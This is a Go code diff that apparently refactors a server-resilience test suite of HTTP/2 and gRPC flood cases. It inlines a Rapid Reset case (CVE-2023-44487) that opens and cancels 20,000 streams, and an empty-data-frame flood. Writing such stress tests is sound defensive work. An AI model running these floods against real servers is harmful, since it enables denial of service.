@@ -93,8 +93,18 @@ func floods() []Case {
 				return t.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: uint32(2*i + 3)})
 			})
 		}),
-		{"grpc: twenty thousand calls begun and reset", reset},
-		{"grpc: twenty thousand pieces of nothing", crumbs},
+		borne("twenty thousand calls begun and reset", func(t *talk) error { // CVE-2023-44487
+			return again(20_000, func(i int) error {
+				stream := uint32(2*i + 1)
+				return errors.Join(t.call(stream, getOne), t.WriteRSTStream(stream, http2.ErrCodeCancel))
+			})
+		}),
+		borne("twenty thousand empty pieces of a message", func(t *talk) error {
+			if err := t.call(1, getOne); err != nil {
+				return err
+			}
+			return again(20_000, func(int) error { return t.WriteData(1, false, nil) })
+		}),
 		{"grpc: more calls at once than were agreed", crowded},
 	}
 }
@@ -128,26 +138,6 @@ func borne(name string, flood func(*talk) error) Case {
 
 // lastStream is beyond the numbers that a flood uses.
 const lastStream = 1_000_001
-
-// reset begins calls and takes each back at once (CVE-2023-44487).
-func reset(ctx context.Context, a *Attacker) error {
-	return borne("", func(t *talk) error {
-		return again(20_000, func(i int) error {
-			stream := uint32(2*i + 1)
-			return errors.Join(t.call(stream, getOne), t.WriteRSTStream(stream, http2.ErrCodeCancel))
-		})
-	}).Attack(ctx, a)
-}
-
-// crumbs sends a call's message in empty pieces.
-func crumbs(ctx context.Context, a *Attacker) error {
-	return borne("", func(t *talk) error {
-		if err := t.call(1, getOne); err != nil {
-			return err
-		}
-		return again(20_000, func(int) error { return t.WriteData(1, false, nil) })
-	}).Attack(ctx, a)
-}
 
 // crowded begins more calls than were agreed and ends none: the further ones
 // are refused, the connection goes on.
